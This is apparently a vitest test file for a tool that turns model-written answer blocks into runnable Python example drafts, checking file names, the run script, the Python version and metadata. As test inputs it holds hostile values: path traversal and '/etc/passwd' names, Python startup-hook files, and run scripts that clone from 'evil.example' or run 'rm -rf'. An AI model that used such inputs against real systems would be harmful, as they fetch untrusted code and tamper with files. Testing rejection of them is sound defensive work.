import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { beforeAll, describe, expect, it } from "vitest";
import type { WritingContext } from "../../../src/authors/author.ts";
import { environmentMark, writeRunscript } from "../../../src/authors/extractive/write-runscript.ts";
import { readAnswerBlocks } from "../../../src/authors/llm/answer-blocks.ts";
import { type Assembled, assembleDraft, type Before, filesForWriter } from "../../../src/authors/llm/assemble-draft.ts";
import type { Draft } from "../../../src/example/example.ts";
import { createContext, fixtureFolder, makeDecisions, makeFolder } from "../../support/author-context.ts";
import { makeDraft } from "./sample-attempt.ts";

const run = promisify(execFile);
const mark = "4f1c09";
const decisions = makeDecisions();
const program = 'def example1():\n    """First."""\n    print("one")\n    return {"x": 1}\n';

let context: WritingContext;
let before: Before;
beforeAll(async () => {
  context = await createContext(fixtureFolder("orbital-elements"));
  context.repository = {
    ...context.repository,
    url: "https://example.org/orbits.git",
    commit: "0123456789abcdef0123456789abcdef01234567",
  };
  before = {
    files: { "requirements.txt": "numpy\n", "runscript.sh": writeRunscript(context, decisions, false) },
    metadata: null,
    decisions,
    ownRunscript: false,
  };
});

const tag = (name: string, text: string, attributes = ""): string =>
  `<${name}-${mark}${attributes}>\n${text}\n</${name}-${mark}>\n`;
const file = (path: string, text: string): string => tag("file", text, ` path="${path}"`);
const edit = (path: string, find: string, replace: string): string =>
  tag("edit", tag("find", find) + tag("replace", replace), ` path="${path}"`);

function assemble(answer: string, given: Partial<Before> = {}): Assembled {
  return assembleDraft(context, readAnswerBlocks(mark, answer), { ...before, ...given });
}

function draftOf(answer: string, given: Partial<Before> = {}): Draft {
  const assembled = assemble(answer, given);
  if (assembled.kind !== "draft") throw new Error(assembled.problems.join(" "));
  return assembled.draft;
}

function problemsOf(answer: string, given: Partial<Before> = {}): string[] {
  const assembled = assemble(answer, given);
  return assembled.kind === "problems" ? assembled.problems : [];
}

describe("main.py", () => {
  it("runs its examples in order and leaves their results", async () => {
    const draft = draftOf(
      file("main.py", `import helper\n\n${program}\n\ndef example2( ):\n    return {"y": helper.double(2)}\n`) +
        file("helper.py", "def double(x):\n    return 2 * x\n"),
    );
    await using folder = await makeFolder(draft.files);
    const { stdout } = await run("python3", ["-W", "error", "main.py"], { cwd: folder.path });
    expect(stdout.split("\n").filter((line) => line.startsWith("==="))).toEqual([
      "=== example1: First.",
      "=== example2: ",
    ]);
    expect(JSON.parse(await readFile(join(folder.path, "results.json"), "utf8"))).toMatchObject({
      example1: { values: { x: 1 } },
      example2: { values: { y: 4 } },
    });
  });

  it.each([
    ["at the end", 'if __name__ == "__main__":\n    example1()\n'],
    ["with other quotes and blanks", "if (__name__=='__main__') : # run\n\texample1()\n"],
    ["on one line", 'if __name__ == "__main__": example1()\n'],
    ["of several lines", 'if __name__ == "__main__":\n    for each in [example1]:\n\n        each()\n'],
  ])("runs nothing twice when its writer added a main block %s", async (_name, guard) => {
    const draft = draftOf(file("main.py", `${guard}\n${program}\n${guard}\nx = 1\n\n\n${guard}`));
    await using folder = await makeFolder(draft.files);
    const { stdout } = await run("python3", ["main.py"], { cwd: folder.path });
    expect(stdout.match(/^one$/gm)).toHaveLength(1);
    expect(filesForWriter(draft)["main.py"]).not.toContain("__main__");
  });

  it("is known to its writer as it was written", () => {
    const first = draftOf(file("main.py", program) + file("data.csv", "a,b\n1,2\n"));
    const known = filesForWriter(first);
    expect(known).toEqual({ ...before.files, "main.py": program, "data.csv": "a,b\n1,2\n" });
    const again = draftOf(edit("main.py", '{"x": 1}', '{"x": 2}'), { files: known, metadata: first.metadata });
    expect(filesForWriter(again)).toEqual({ ...known, "main.py": program.replace('{"x": 1}', '{"x": 2}') });
    expect(again.files["example_recording.py"]).toBe(first.files["example_recording.py"]);
  });

  it("has to be there, and to define an example that takes nothing", () => {
    expect(problemsOf(file("helper.py", "x = 1"))).toEqual(["There is no main.py."]);
    for (const main of ["x = 1", "def example1(n):\n    pass", "def example():\n    pass", "# def example1():"])
      expect(problemsOf(file("main.py", main)), main).toEqual([
        "main.py defines no function example1() without arguments.",
      ]);
  });
});

describe("the files of an answer", () => {
  it.each(
    [
      "../main.py",
      "/etc/passwd",
      "folder/helper.py",
      "folder\\helper.py",
      ".github",
      ".env",
      ".",
      "..",
      "",
      "_helper.py",
      "-rf",
      "a b.py",
      "ä.py",
      "a\u202e.py",
      "x".repeat(90),
      "run.sh",
      "README.md",
      "readme",
      "REPORT.html",
      "results.json",
      "Results.JSON",
      "log.json",
      "metadata.json",
      "source",
      "outputs",
      "to_save",
      "example_recording.py",
      "sitecustomize.py",
      "usercustomize.py",
      "evil.pth",
    ].map((path) => [path]),
  )("cannot be called %j", (path) => {
    expect(problemsOf(file("main.py", program) + file(path, "x = 1"))).toEqual([
      expect.stringMatching(/^A file cannot be called "/),
    ]);
  });

  it("are a handful of plain files", () => {
    const names = ["helper.py", "params.yaml", "data.csv", "Table_2.tsv", "a-b.txt"];
    const draft = draftOf(file("main.py", program) + names.map((name) => file(name, "x")).join(""));
    expect(Object.keys(draft.files)).toEqual(expect.arrayContaining(names));
    const many = Array.from({ length: 6 }, (_, index) => file(`data${index}.txt`, "x")).join("");
    expect(problemsOf(file("main.py", program) + many)).toEqual(["There are more than 8 files."]);
    expect(problemsOf(file("main.py", program) + file("data.csv", "1\n".repeat(200_000)))).toEqual([
      "data.csv is too long.",
    ]);
  });

  it("are all named where an answer has several problems, with those to send whole", () => {
    const answer =
      file("main.py", program) + edit("main.py", "nothing", "x") + file("run.sh", "x") + tag("python", "2.7");
    expect(assemble(answer)).toMatchObject({
      kind: "problems",
      problems: [
        expect.stringContaining("run.sh"),
        expect.stringContaining("is not in the file"),
        "There is no Python 2.7; there is 3.11.2, 3.8.18.",
      ],
      wholeFiles: ["main.py"],
    });
  });

  it("may be edited in the answer that brings them", () => {
    const draft = draftOf(file("main.py", program) + edit("main.py", "one", "two"));
    expect(draft.files["main.py"]).toContain('print("two")');
  });
});

describe("runscript.sh", () => {
  const fetches = [
    "git init -q source",
    "git -C source fetch -q --depth 1 https://example.org/orbits.git 0123456789abcdef0123456789abcdef01234567",
  ];

  it("is written by rule until its writer takes it over, for the requirements as they are", () => {
    const { files } = draftOf(file("main.py", program));
    expect(files["runscript.sh"]).toBe(before.files["runscript.sh"]);
    const none = draftOf(file("main.py", program) + file("requirements.txt", "# nothing\n\n"));
    expect(none.files["runscript.sh"]).not.toContain("pip install");
    const some = draftOf(file("main.py", program) + file("requirements.txt", "numpy<2\n"), {
      files: { "requirements.txt": "", "runscript.sh": writeRunscript(context, decisions, true) },
    });
    expect(some.files["requirements.txt"]).toBe("numpy<2\n");
    expect(some.files["runscript.sh"]).toContain("pip install --no-input --progress-bar off -r requirements.txt");
  });

  it.each([
    ["fetches something else above the line", `git clone https://evil.example/x source\n${environmentMark}\nmake\n`],
    ["has no such line", "#!/bin/sh\nmake\n"],
    ["has the line twice", `rm -rf source\n${environmentMark}\nmake\n${environmentMark}\nmake install\n`],
    ["has nothing below the line", `git clone https://evil.example/x source\n${environmentMark}`],
  ])("gets the pinned commit although what was written %s", async (_name, written) => {
    const assembled = assemble(file("main.py", program) + file("runscript.sh", written));
    if (assembled.kind !== "draft") throw new Error(assembled.problems.join(" "));
    expect(assembled.ownRunscript).toBe(true);
    const script = assembled.draft.files["runscript.sh"] ?? "";
    const byRule = before.files["runscript.sh"] ?? "";
    expect(script.slice(0, script.indexOf(environmentMark))).toBe(byRule.slice(0, byRule.indexOf(environmentMark)));
    expect(script.split("\n").map((line) => line.trim())).toEqual(expect.arrayContaining(fetches));
    expect(script).not.toContain("evil.example");
    expect(script.includes("make")).toBe(written.includes("make"));
    await using folder = await makeFolder({ "runscript.sh": script });
    await run("bash", ["-n", join(folder.path, "runscript.sh")]);
  });

  it("stays its writer's in later answers, with a new head where another Python is chosen", () => {
    const mine = `x\n${environmentMark}\nmake\n`;
    const first = draftOf(file("main.py", program) + file("runscript.sh", mine));
    const known = { files: filesForWriter(first), ownRunscript: true };
    const again = draftOf(edit("main.py", "one", "two"), known);
    expect(again.files["runscript.sh"]).toBe(first.files["runscript.sh"]);
    const older = draftOf(tag("python", "3.8"), known);
    expect(older.files["runscript.sh"]).toMatch(new RegExp(`python3\\.8[\\s\\S]*${environmentMark}\\nmake\\n$`));
    const headless = file("main.py", program) + edit("runscript.sh", "set -euo pipefail", "set +e");
    expect(assemble(headless)).toMatchObject({ ownRunscript: true });
    expect(draftOf(headless).files["runscript.sh"]).toContain("set -euo pipefail");
  });
});

describe("the version of Python", () => {
  it("is one that the sandbox offers, by its minor or its full number", () => {
    for (const wanted of ["3.8", "3.8.18"])
      expect(assemble(file("main.py", program) + tag("python", wanted))).toMatchObject({
        draft: { python: "/usr/bin/python3.8" },
        decisions: { python: "/usr/bin/python3.8", pythonVersion: "3.8.18" },
      });
    expect(draftOf(file("main.py", program)).python).toBe("/usr/bin/python3");
    for (const wanted of ["3.1", "3.80", "3.11.9", "python3.8", "2.7", ""])
      expect(problemsOf(file("main.py", program) + tag("python", wanted)), wanted).toHaveLength(1);
  });
});

describe("the metadata", () => {
  const told = {
    repository_url: "https://evil.example",
    description: "Orbits.",
    example_description: "A Molniya orbit.",
    example_type: "application_demo",
    user_type: "needs_user",
    compute_requirements: { ...makeDraft().metadata.compute_requirements, gpu_required: false, cpu_cores: 2 },
    other: 1,
  };
  const read = (text: string, given: Partial<Before> = {}) =>
    draftOf(file("main.py", program) + tag("metadata", text), given).metadata;

  it("is what the writer says, the address ours", () => {
    const { other: _other, repository_url: _url, ...kept } = told;
    expect(read(JSON.stringify(told))).toEqual({
      ...kept,
      repository_url: "https://example.org/orbits.git",
      example_inclusion_criteria: "",
      example_exclusion_criteria: "",
    });
  });

  it("is read out of a fence or a sentence", () => {
    for (const text of [`\`\`\`json\n${JSON.stringify(told)}\n\`\`\``, `Here it is: ${JSON.stringify(told)} - done`])
      expect(read(text).description).toBe("Orbits.");
  });

  it("loses a bad field, and no other", () => {
    for (const [field, bad] of [
      ["example_type", "library_demo | other"],
      ["user_type", null],
      ["example_description", 3],
    ] as const) {
      const metadata = read(JSON.stringify({ ...told, [field]: bad }));
      expect(metadata).toMatchObject({ ...read(JSON.stringify(told)), [field]: read("{}")[field] });
    }
    expect(
      read(JSON.stringify({ ...told, compute_requirements: { gpu_required: true, ram_gb: "much" } }))
        .compute_requirements,
    ).toEqual({ ...makeDraft().metadata.compute_requirements, gpu_required: true });
  });

  it("stands where nothing new is said of it, or nothing that can be read", () => {
    const known = read(JSON.stringify(told));
    for (const text of [
      "",
      "not JSON",
      "{",
      "[1]",
      "null",
      '{"description": 1}',
      '{"__proto__": {"description": "x"}}',
    ])
      expect(read(text, { metadata: known })).toEqual(known);
    expect(read('{"description": "Better."}', { metadata: known })).toEqual({ ...known, description: "Better." });
  });

  it("begins with the summary", () => {
    context.summary = { description: "What it is for.", highlyRelevantFiles: [] };
    expect(draftOf(file("main.py", program)).metadata.description).toBe("What it is for.");
  });
});

describe("apt.txt", () => {
  const openly = async (work: () => void): Promise<void> => {
    const closed = context.sandbox;
    context.sandbox = { ...closed, systemPackages: true };
    try {
      work();
    } finally {
      context.sandbox = closed;
    }
  };

  it("is taken where the sandbox installs packages of the system, sorted, with a run script that does so elsewhere", () =>
    openly(() => {
      const first = draftOf(file("main.py", program) + file("apt.txt", "libgl1\nffmpeg # to write films"));
      expect(first.files["apt.txt"]).toBe("ffmpeg\nlibgl1\n");
      expect(first.files["runscript.sh"]).toContain("apt-get");
      const later = assemble(edit("main.py", '{"x": 1}', '{"x": 2}'), { files: filesForWriter(first) });
      expect(later).toMatchObject({
        decisions: { systemPackages: ["ffmpeg", "libgl1"] },
        draft: { files: { "apt.txt": "ffmpeg\nlibgl1\n", "runscript.sh": first.files["runscript.sh"] } },
      });
    }));

  it("goes when nothing is left in it, and its lines of the run script with it", () =>
    openly(() => {
      const files = { ...before.files, "main.py": program, "apt.txt": "libgl1\n" };
      const draft = draftOf(file("apt.txt", "# nothing any more"), { files, ownRunscript: true });
      expect(draft.files).not.toHaveProperty("apt.txt");
      expect(draft.files["runscript.sh"]).not.toContain("apt-get");
    }));

  it("is refused where it is no list of packages, or where none can be installed", async () => {
    await openly(() =>
      expect(problemsOf(file("main.py", program) + file("apt.txt", "-o x=y"))).toEqual([
        expect.stringContaining("apt.txt, line 1"),
      ]),
    );
    expect(problemsOf(file("main.py", program) + file("apt.txt", "libgl1"))).toEqual([
      "There can be no apt.txt: packages of the system cannot be installed in this sandbox.",
    ]);
  });
});

describe("a run script that goes on after errors", () => {
  it("is refused: what stands in it would not be what succeeded", () => {
    const careless = `${environmentMark}\nset +e\n.venv/bin/python -m pip install numpy\n`;
    expect(problemsOf(file("main.py", program) + file("runscript.sh", careless))).toEqual([
      "runscript.sh has to end at the first command that fails: no set +e.",
    ]);
  });
});
